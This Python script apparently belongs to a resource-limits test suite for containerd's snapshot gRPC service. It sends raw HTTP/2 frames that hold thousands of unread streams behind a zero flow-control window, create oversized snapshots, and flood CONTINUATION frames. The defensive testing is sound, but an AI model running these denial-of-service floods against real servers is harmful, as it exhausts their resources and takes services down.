#!/usr/bin/env python3
"""Hostile HTTP/2 clients for the limits suite (issue 15), by raw frames.

  h2_flood.py lists SOCKET STREAMS HOLD_SECONDS
      Opens STREAMS List calls (100 per connection) whose client never
      reads: each connection announces a flow-control window of 0, so the
      server can send no message. Holds them HOLD_SECONDS, then closes all.
  h2_flood.py prepare SOCKET COUNT LABEL_BYTES
      Prepares COUNT snapshots "hostile-<i>" whose labels take about
      LABEL_BYTES (< 64 KiB) each, so that a List answer is large. Does not read the answers: check with the CLI.
  h2_flood.py continuation SOCKET MEGABYTES
      One HEADERS frame without END_HEADERS, then CONTINUATION frames of
      header literals until MEGABYTES are sent (finding 6); then closes.

Prints what it did on one line. No dependencies beyond the standard
library.
"""
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, SETTINGS, CONTINUATION = 0, 1, 4, 9
END_STREAM, END_HEADERS = 0x1, 0x4
SETTINGS_INITIAL_WINDOW_SIZE = 0x4
LIST = b"/containerd.services.snapshots.v1.Snapshots/List"
PREPARE = b"/containerd.services.snapshots.v1.Snapshots/Prepare"


def frame(kind, flags, stream, payload):
    return (struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) +
            struct.pack(">I", stream) + payload)


def hpack_int(value, prefix_bits, first=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = bytearray([first | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(name, value):
    # Literal header field without indexing, new name, no Huffman coding.
    return (b"\x00" + hpack_int(len(name), 7) + name +
            hpack_int(len(value), 7) + value)


def request_headers(path):
    return b"".join(
        literal(n, v) for n, v in [
            (b":method", b"POST"), (b":scheme", b"http"), (b":path", path),
            (b":authority", b"localhost"),
            (b"content-type", b"application/grpc"), (b"te", b"trailers")
        ])


def connect(path, window):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(path)
    settings = struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, window)
    s.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
    return s


def lists(path, streams, hold):
    conns = []
    block = request_headers(LIST)
    message = b"\x00" + struct.pack(">I", 0)  # an empty ListSnapshotsRequest
    sent = 0
    while sent < streams:
        s = connect(path, 0)
        out = bytearray()
        for i in range(min(100, streams - sent)):
            sid = 1 + 2 * i
            out += frame(HEADERS, END_HEADERS, sid, block)
            out += frame(DATA, END_STREAM, sid, message)
        s.sendall(out)
        sent += min(100, streams - sent)
        conns.append(s)
    print(f"lists: {sent} never-read List streams on {len(conns)} "
          f"connections, held {hold} s", flush=True)
    time.sleep(hold)
    for s in conns:
        s.close()


def pb_bytes(field, payload):
    # A length-delimited protobuf field.
    return varint(field << 3 | 2) + varint(len(payload)) + payload


def varint(value):
    out = bytearray()
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def prepare(path, count, label_bytes):
    # One connection per call, each request within HTTP/2's initial 64 KiB
    # flow-control windows (this client reads no WINDOW_UPDATE).
    conns = []
    block = request_headers(PREPARE)
    for i in range(count):
        request = pb_bytes(2, b"hostile-%d" % i)  # key (1: snapshotter)
        for j in range(max(1, label_bytes // 4000)):  # 4096 per label
            entry = pb_bytes(1, b"l%d" % j) + pb_bytes(2, b"v" * 4000)
            request += pb_bytes(4, entry)  # labels
        message = b"\x00" + struct.pack(">I", len(request)) + request
        assert len(message) < 65535, "one call's request must fit the window"
        s = connect(path, 1 << 20)
        s.sendall(frame(HEADERS, END_HEADERS, 1, block))
        for k in range(0, len(message), 16384):
            last = k + 16384 >= len(message)
            s.sendall(frame(DATA, END_STREAM if last else 0, 1,
                            message[k:k + 16384]))
        conns.append(s)
    time.sleep(2)
    print(f"prepare: {count} Prepares of ~{label_bytes >> 10} KiB labels",
          flush=True)
    for s in conns:
        s.close()


def continuation(path, megabytes):
    s = connect(path, 65535)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 16)
    s.sendall(frame(HEADERS, 0, 1, request_headers(LIST)))
    chunk = b"".join(
        literal(b"x-flood-%d" % i, b"v" * 200) for i in range(70))
    total, frames = 0, 0
    try:
        while total < megabytes << 20:
            s.sendall(frame(CONTINUATION, 0, 1, chunk))
            total += len(chunk)
            frames += 1
    except OSError as e:  # the server may close the connection: fine
        print(f"continuation: server closed after {frames} frames: {e}")
    print(f"continuation: {frames} CONTINUATION frames, {total >> 20} MiB",
          flush=True)
    s.close()


def main():
    mode = sys.argv[1]
    if mode == "lists":
        lists(sys.argv[2], int(sys.argv[3]), float(sys.argv[4]))
    elif mode == "prepare":
        prepare(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]))
    elif mode == "continuation":
        continuation(sys.argv[2], int(sys.argv[3]))
    else:
        sys.exit(f"unknown mode {mode}")


if __name__ == "__main__":
    main()
